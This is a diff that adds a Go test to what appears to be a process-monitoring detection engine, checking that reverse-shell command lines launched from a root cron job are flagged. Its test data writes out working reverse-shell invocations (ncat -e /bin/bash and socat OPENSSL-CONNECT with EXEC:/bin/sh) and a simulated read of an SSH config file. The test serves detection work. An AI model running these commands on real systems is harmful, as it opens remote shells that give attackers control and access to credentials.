@@ -462,3 +462,41 @@ func TestArchiveStagingVersion(t *testing.T) {
 		}
 	}
 }
+
+// TestReverseShellCommand: a command line that hands a socket to a shell
+// is a reverse shell whoever runs it (root's cron job here): the relay's
+// connect opens a channel, and the shell's commands run in it.
+func TestReverseShellCommand(t *testing.T) {
+	for _, c := range []struct {
+		args []string
+		want bool
+	}{
+		{[]string{"/usr/bin/ncat", "--ssl", "127.0.0.1", "4447", "-e", "/bin/bash"}, true},
+		{[]string{"/usr/bin/socat", "OPENSSL-CONNECT:203.0.113.9:443,verify=0", "EXEC:/bin/sh,stderr"}, true},
+		{[]string{"/usr/bin/ncat", "-l", "8080"}, false},
+		{[]string{"/usr/bin/socat", "TCP-LISTEN:8080,fork", "TCP:127.0.0.1:80"}, false},
+		{[]string{"/usr/bin/nc", "-z", "10.0.0.5", "22"}, false},
+	} {
+		e, err := New(Options{})
+		if err != nil {
+			t.Fatal(err)
+		}
+		s := newSynth()
+		s.exec(300, 1, 0, "root", "/", "/usr/sbin/cron", "/usr/sbin/cron", "-f")
+		s.exec(301, 300, 0, "root", "/", "/usr/bin/python3.11", "/srv/kb/venv/bin/python", "/srv/kb/bin/kb-stats.py")
+		f := findingOf(e.Observe(s.exec(302, 301, 0, "root", "/", c.args[0], c.args...), s.tree), "reverse-shell-command")
+		if got := f != nil; got != c.want {
+			t.Errorf("%q: reverse-shell-command %v, want %v", c.args, got, c.want)
+			continue
+		}
+		if !c.want {
+			continue
+		}
+		e.Observe(s.connect(302, 301, 0, c.args[0], "127.0.0.1", 4447), s.tree)
+		e.Observe(s.exec(303, 302, 0, "root", "/", "/usr/bin/bash", "/bin/bash"), s.tree)
+		fs := e.Observe(s.exec(304, 303, 0, "root", "/", "/usr/bin/cat", "cat", "/home/svc-reports/.ssh/config"), s.tree)
+		if len(fs) == 0 || fs[0].Stage != StageCommandAndControl {
+			t.Errorf("%q: the shell's command: %v, want a finding inside the channel (stage 7)", c.args, ids(fs))
+		}
+	}
+}
